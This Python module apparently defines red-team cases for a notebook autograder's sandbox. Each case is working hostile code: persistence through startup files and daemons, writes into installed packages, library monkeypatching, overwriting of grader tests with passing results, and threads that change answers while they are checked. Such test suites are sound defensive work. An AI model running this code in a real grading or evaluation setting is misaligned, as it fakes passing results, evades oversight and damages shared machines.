"""Lingering: leave something behind for the next submission, or act while probes run."""

from attacks.case import MEAN, STARTED, Case
from attacks.machine import MARK, SYSV_KEY

MODULE = MARK.replace("-", "_")

MARKS = f"""
import os, site, sys, tempfile
import torch
places = ["/", "/tmp", "/var/tmp", "/dev", "/dev/shm", "/usr", "/run", "/etc", ".", "..", "../lib",
          "../root", "../home", os.path.expanduser("~"), tempfile.gettempdir(), sys.prefix,
          os.path.dirname(os.__file__), os.path.dirname(torch.__file__), *sys.path, *site.PREFIXES]
for place in places:
    try:
        with open(os.path.join(place, "{MARK}"), "w") as file:
            file.write("1")
    except OSError:
        pass
"""

SYSV = f"""
import ctypes
libc = ctypes.CDLL(None, use_errno=True)
for call, more in (("shmget", (4096, 0o1666)), ("msgget", (0o1666,)), ("semget", (1, 0o1666))):
    getattr(libc, call)({SYSV_KEY}, *more)
"""

QUEUES = f"""
import ctypes
libc = ctypes.CDLL(None, use_errno=True)
made = libc.syscall(240, b"{MARK}", 0o102, 0o666, None)
"""

DAEMON = """
import os, sys, time
for _ in range(3):
    try:
        if os.fork() == 0:
            os.setsid()
            if os.fork() == 0:
                os.execv(sys.executable, [sys.executable, "-c", "import time; time.sleep(600)"])
            os._exit(0)
    except OSError:
        pass
"""

PACKAGES = """
import os, sys
import torch, numpy, IPython, json, grader
for module in (torch, numpy, IPython, json, os, grader, sys.modules["grader.wire"]):
    for mode in ("a", "w"):
        try:
            with open(module.__file__, mode) as file:
                file.write("\\nraise SystemExit\\n")
        except OSError:
            pass
"""

START_FILES = f"""
import os, sys
home = os.path.expanduser("~")
for path in ("sitecustomize.py", "usercustomize.py", "{MODULE}.pth", "torch.py", "json.py",
             "../lib/sitecustomize.py", "../lib/torch.py", home + "/.pythonrc.py",
             home + "/.local/lib/python3.11/site-packages/usercustomize.py",
             home + "/ipython/profile_default/startup/00.py", home + "/matplotlib/matplotlibrc"):
    try:
        os.makedirs(os.path.dirname(path) or ".", exist_ok=True)
        with open(path, "w") as file:
            file.write("import sys; sys.modules['{MODULE}'] = sys")
    except OSError:
        pass
"""

PATCHES = """
import builtins, json, sys
import IPython, numpy, torch
torch.Tensor.mean = lambda *a: torch.tensor(0.0)
torch.nn.Linear.__init__ = lambda *a: None
numpy.mean = lambda *a: 0
json.dumps = json.loads = lambda *a, **k: "{}"
IPython.core.interactiveshell.InteractiveShell.run_cell = lambda *a, **k: 1 / 0
torch.set_grad_enabled(False)
torch.set_default_dtype(torch.float64)
builtins.print = lambda *a: None
sys.settrace(lambda *a: None)
sys.setrecursionlimit(60)
"""

EXIT_HOOKS = """
import atexit, os, signal, sys, threading, time, weakref
def act(*_):
    for fd in range(3, 64):
        try:
            os.write(fd, b"TGF1" + bytes(12))
        except OSError:
            pass
atexit.register(act)
class Last:
    def __del__(self): act()
kept = Last()
kept.itself = kept
weakref.finalize(kept, act)
sys.exitfunc = act
threading._register_atexit(act)
"""

BACKGROUND = """
import threading, time
shell = get_ipython()
def meddle():
    while True:
        shell.user_ns["mean"] = lambda values: 0
        time.sleep(0.0005)
threading.Thread(target=meddle, daemon=True).start()
time.sleep(0.01)
"""

ALARM = """
import signal
shell = get_ipython()
def act(*_):
    shell.user_ns["mean"] = lambda values: 0
signal.signal(signal.SIGALRM, act)
signal.setitimer(signal.ITIMER_REAL, 0.005, 0.005)
"""

OVERWRITE = """
import os, sys
for folder in ("tests", "otter", "grader", "reference", "assignments", "@HIDDEN@/averages/tests",
               "@PUBLIC@/averages/tests", "../lib/grader"):
    try:
        os.makedirs(folder, exist_ok=True)
        for name in ("__init__.py", "mean.py", "checks.py", "wire.py"):
            with open(folder + "/" + name, "w") as file:
                file.write("OK_FORMAT = False\\nname = 'mean'\\npoints = 99\\n")
    except OSError:
        pass
sys.modules["otter"] = sys.modules["grader"] = sys.modules["grader.checks"] = sys
"""

OPEN_DISK = {
    "none": {"next": "the notebook has the rights of the user who grades"},
}
HARM = {"none": "the notebook has the rights of the user who grades; this would harm the machine"}

ANSWERED = (MEAN, 'from grader.student import check\ncheck("mean")')


def _case(name: str, sentence: str, code: str, **more: object) -> Case:
    settings = {"marks": STARTED, **more}
    return Case(name, sentence, (*ANSWERED, code), **settings)  # type: ignore[arg-type]


CASES = (
    _case("marks_on_disk", "Leave a file wherever one can be made.", MARKS, not_run_in=HARM),
    _case("marks_in_sysv", "Leave shared memory, queues, semaphores.", SYSV, open_in=OPEN_DISK),
    _case("marks_in_posix_queue", "Leave a POSIX message queue.", QUEUES, open_in=OPEN_DISK),
    _case("daemon", "Leave a process that outlives the notebook.", DAEMON),
    _case("changed_packages", "Write into torch, numpy, json, grader.", PACKAGES, not_run_in=HARM),
    _case("start_files", "Write files that Python or IPython run at start.", START_FILES,
          open_in=OPEN_DISK),
    _case("overwrite_tests", "Overwrite tests/, otter and grader.", OVERWRITE, not_run_in=HARM),
    _case("patched_libraries", "Patch torch, numpy, json, IPython, builtins.", PATCHES),
    _case("exit_hooks", "Write on the pipe at exit.", EXIT_HOOKS),
    _case("background_thread", "Change answers while they are observed.", BACKGROUND),
    _case("alarms", "Change answers from a signal handler.", ALARM),
)  # fmt: skip
